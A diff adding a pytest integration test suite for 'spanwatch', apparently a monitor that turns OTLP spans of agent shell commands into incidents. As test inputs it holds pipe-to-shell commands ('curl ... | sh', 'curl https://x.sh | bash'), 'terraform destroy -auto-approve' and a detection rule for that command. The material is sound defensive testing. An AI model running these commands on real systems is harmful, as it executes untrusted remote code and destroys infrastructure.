@@ -1,0 +1,277 @@
+"""`spanwatch run` on loopback: the real OTLP exporter in, the API out, state across restarts."""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+from urllib.parse import urlencode
+
+import httpx
+import pytest
+from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
+from opentelemetry.sdk.resources import Resource
+from opentelemetry.sdk.trace import TracerProvider
+from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+
+TOKEN = "test-token-4f1c"
+SLACK_SECRET = "8f742231b10e8888abcd99yyyzzz85a5"
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+class Engine:
+    def __init__(self, tmp: Path) -> None:
+        self.otlp, self.api = free_port(), free_port()
+        self.config = tmp / "spanwatch.yml"
+        self.config.write_text(
+            f"state_dir: {tmp / 'state'}\n"
+            "stream: {allowed_lateness: 1, tick: 1, heartbeat: 5}\n"
+            f'live: {{otlp_http: "127.0.0.1:{self.otlp}", api: "127.0.0.1:{self.api}", '
+            "epoch_seconds: 0.5}\n"
+        )
+        self.proc: subprocess.Popen | None = None
+        self.log = tmp / "engine.log"
+
+    @property
+    def base(self) -> str:
+        return f"http://127.0.0.1:{self.api}"
+
+    def start(self) -> None:
+        env = {**os.environ, "SPANWATCH_API_TOKEN": TOKEN, "SLACK_SIGNING_SECRET": SLACK_SECRET}
+        self.proc = subprocess.Popen(
+            [sys.executable, "-m", "engine.cli", "run", "--config", str(self.config)],
+            stdout=self.log.open("ab"),
+            stderr=subprocess.STDOUT,
+            env=env,
+        )
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            try:
+                if httpx.get(f"{self.base}/healthz", timeout=1).status_code == 200:
+                    return
+            except httpx.HTTPError:
+                time.sleep(0.2)
+        raise AssertionError("engine did not come up:\n" + self.log.read_text())
+
+    def stop(self) -> int:
+        assert self.proc is not None
+        self.proc.send_signal(signal.SIGTERM)
+        return self.proc.wait(timeout=60)
+
+    def wait_for(self, predicate, what: str, timeout: float = 30.0):
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            incidents = httpx.get(f"{self.base}/v1/incidents?status=all").json()["incidents"]
+            found = [i for i in incidents if predicate(i)]
+            if found:
+                return found[0]
+            time.sleep(0.3)
+        raise AssertionError(f"timed out waiting for {what}:\n" + self.log.read_text())
+
+
+@pytest.fixture
+def engine(tmp_path):
+    e = Engine(tmp_path)
+    e.start()
+    yield e
+    if e.proc and e.proc.poll() is None:
+        e.proc.kill()
+
+
+def send_pipe_to_shell(port: int, user: str) -> None:
+    provider = TracerProvider(resource=Resource.create({"user": user, "team": "payments"}))
+    provider.add_span_processor(
+        SimpleSpanProcessor(OTLPSpanExporter(endpoint=f"http://127.0.0.1:{port}/v1/traces"))
+    )
+    with provider.get_tracer("wrapper").start_as_current_span("shell.run") as span:
+        span.set_attribute("command", "curl -fsSL https://get.example.sh | sh")
+        span.set_attribute("repo", "billing")
+    provider.shutdown()
+
+
+def test_spans_from_the_sdk_become_incidents_that_the_api_acknowledges(engine):
+    send_pipe_to_shell(engine.otlp, "eve")
+    incident = engine.wait_for(lambda i: i["rule_id"] == "shell-pipe-to-shell", "the incident")
+    assert incident["group"] == {"user": "eve", "repo": "billing"}
+    assert incident["severity"] == "critical"
+
+    url = f"{engine.base}/v1/incidents/{incident['id']}/ack"
+    assert httpx.post(url, json={"by": "alice"}).status_code == 401
+    assert (
+        httpx.post(url, json={"by": "alice"}, headers={"Authorization": "Bearer nope"}).status_code
+        == 401
+    )
+    auth = {"Authorization": f"Bearer {TOKEN}"}
+    assert httpx.post(f"{engine.base}/v1/incidents/no-such/ack", headers=auth).status_code == 404
+    assert httpx.post(url, json={"by": "alice"}, headers=auth).status_code == 202
+    engine.wait_for(lambda i: i["status"] == "acknowledged", "the acknowledgement")
+
+    bad = httpx.post(
+        f"{engine.base}/v1/silences",
+        json={"id": "s1", "matchers": ["team=~(unclosed"], "ends_at": time.time() + 60},
+        headers=auth,
+    )
+    assert bad.status_code == 400 and "matcher" in bad.json()["error"]
+
+    cli = [sys.executable, "-m", "engine.cli", "incidents", "--api", engine.base]
+    env = {**os.environ, "SPANWATCH_API_TOKEN": TOKEN}
+    listed = subprocess.run([*cli, "list"], capture_output=True, text=True, env=env, timeout=60)
+    assert listed.returncode == 0 and incident["id"] in listed.stdout
+    assert "acknowledged" in listed.stdout
+    silenced = subprocess.run(
+        [*cli, "silence", "team=payments", "--until", "2099-01-01T00:00:00Z", "--id", "pentest"],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=60,
+    )
+    assert silenced.returncode == 0, silenced.stderr
+    missing = subprocess.run(
+        [*cli, "resolve", "no-such"], capture_output=True, text=True, env=env, timeout=60
+    )
+    assert missing.returncode == 1 and "404" in missing.stderr
+    assert engine.stop() == 0
+
+
+def test_malformed_and_oversized_otlp_get_a_reason(engine):
+    url = f"http://127.0.0.1:{engine.otlp}/v1/traces"
+    r = httpx.post(url, content=b"\x0a\xff\xff", headers={"Content-Type": "application/x-protobuf"})
+    assert r.status_code == 400 and "protobuf" in r.json()["message"]
+    r = httpx.post(
+        url, content=b'{"resourceSpans": 7}', headers={"Content-Type": "application/json"}
+    )
+    assert r.status_code == 400 and "resourceSpans" in r.json()["message"]
+    r = httpx.post(url, content=b"x", headers={"Content-Type": "text/plain"})
+    assert r.status_code == 415
+    assert engine.stop() == 0
+
+
+def test_incident_state_survives_a_restart(tmp_path):
+    e = Engine(tmp_path)
+    e.start()
+    try:
+        send_pipe_to_shell(e.otlp, "mallory")
+        incident = e.wait_for(lambda i: i["group"].get("user") == "mallory", "the incident")
+        assert e.stop() == 0
+        e.start()
+        auth = {"Authorization": f"Bearer {TOKEN}"}
+        url = f"{e.base}/v1/incidents/{incident['id']}/resolve"
+        assert httpx.post(url, headers=auth).status_code == 202
+        e.wait_for(lambda i: i["id"] == incident["id"] and i["status"] == "resolved", "resolve")
+        log = (tmp_path / "state" / "incident-log.jsonl").read_text().splitlines()
+        assert [line.split('"')[3] for line in log] == ["incident.opened", "incident.resolved"]
+        assert e.stop() == 0
+    finally:
+        if e.proc and e.proc.poll() is None:
+            e.proc.kill()
+
+
+RULE_B = """
+title: Terraform destroy
+name: test-terraform-destroy
+level: high
+logsource: {product: claude_code}
+detection:
+  sel:
+    name: shell.run
+    command|contains: terraform destroy
+  condition: sel
+"""
+
+
+def send_command(port: int, user: str, command: str) -> None:
+    provider = TracerProvider(resource=Resource.create({"user": user}))
+    provider.add_span_processor(
+        SimpleSpanProcessor(OTLPSpanExporter(endpoint=f"http://127.0.0.1:{port}/v1/traces"))
+    )
+    with provider.get_tracer("wrapper").start_as_current_span("shell.run") as span:
+        span.set_attribute("command", command)
+    provider.shutdown()
+
+
+def test_rules_reload_without_restart_and_a_broken_set_is_refused(tmp_path):
+    rules_dir = tmp_path / "rules"
+    rules_dir.mkdir()
+    pack = Path(__file__).resolve().parents[2] / "rules" / "packs" / "claude_code"
+    (rules_dir / "pipe.yml").write_text((pack / "shell_pipe_to_shell.yml").read_text())
+    e = Engine(tmp_path)
+    text = e.config.read_text().replace(
+        "epoch_seconds: 0.5}", "epoch_seconds: 0.5, rules_poll_seconds: 0.3}"
+    )
+    e.config.write_text(text + f"rules: {{packs: [], paths: [{rules_dir}]}}\n")
+    e.start()
+    try:
+        send_command(e.otlp, "before", "terraform destroy -auto-approve")
+        send_command(e.otlp, "before", "curl https://x.sh | bash")
+        e.wait_for(lambda i: i["group"].get("user") == "before", "the pipe-to-shell incident")
+        # a broken file is refused; the running rules keep working
+        (rules_dir / "broken.yml").write_text("title: x\ndetection: [\n")
+        time.sleep(1.5)
+        assert e.proc.poll() is None
+        (rules_dir / "broken.yml").unlink()
+        (rules_dir / "destroy.yml").write_text(RULE_B)
+        deadline = time.monotonic() + 20
+        while "rules reloaded" not in e.log.read_text() and time.monotonic() < deadline:
+            time.sleep(0.2)
+        send_command(e.otlp, "after", "terraform destroy -auto-approve")
+        e.wait_for(lambda i: i["rule_id"] == "test-terraform-destroy", "the new rule's incident")
+        incidents = httpx.get(f"{e.base}/v1/incidents?status=all").json()["incidents"]
+        assert not any(
+            i["rule_id"] == "test-terraform-destroy" and i["group"].get("user") == "before"
+            for i in incidents
+        )
+        log = e.log.read_text()
+        assert "rule reload refused" in log
+        e.proc.send_signal(signal.SIGHUP)
+        deadline = time.monotonic() + 10
+        while log.count("rules reloaded") < 2 and time.monotonic() < deadline:
+            time.sleep(0.2)
+            log = e.log.read_text()
+        assert log.count("rules reloaded") >= 2
+        assert e.stop() == 0
+    finally:
+        if e.proc and e.proc.poll() is None:
+            e.proc.kill()
+
+
+def slack_press(base: str, action_id: str, incident_id: str, *, secret: str, age: float = 0) -> int:
+    payload = {
+        "type": "block_actions",
+        "user": {"id": "U1", "username": "oncall-bob"},
+        "actions": [{"action_id": action_id, "value": incident_id}],
+    }
+    body = urlencode({"payload": json.dumps(payload)})
+    ts = str(int(time.time() - age))
+    digest = hmac.new(secret.encode(), f"v0:{ts}:{body}".encode(), hashlib.sha256).hexdigest()
+    headers = {
+        "Content-Type": "application/x-www-form-urlencoded",
+        "X-Slack-Request-Timestamp": ts,
+        "X-Slack-Signature": f"v0={digest}",
+    }
+    return httpx.post(f"{base}/slack/actions", content=body, headers=headers).status_code
+
+
+def test_the_slack_acknowledge_button_acknowledges_through_the_control_stream(engine):
+    send_pipe_to_shell(engine.otlp, "trudy")
+    incident = engine.wait_for(lambda i: i["group"].get("user") == "trudy", "the incident")
+    assert slack_press(engine.base, "spanwatch_ack", incident["id"], secret="wrong") == 401
+    stale = slack_press(engine.base, "spanwatch_ack", incident["id"], secret=SLACK_SECRET, age=600)
+    assert stale == 401
+    assert slack_press(engine.base, "spanwatch_ack", incident["id"], secret=SLACK_SECRET) == 200
+    acked = engine.wait_for(
+        lambda i: i["id"] == incident["id"] and i["status"] == "acknowledged", "the ack"
+    )
+    assert acked["acknowledged"]["by"] == "oncall-bob"
+    assert engine.stop() == 0
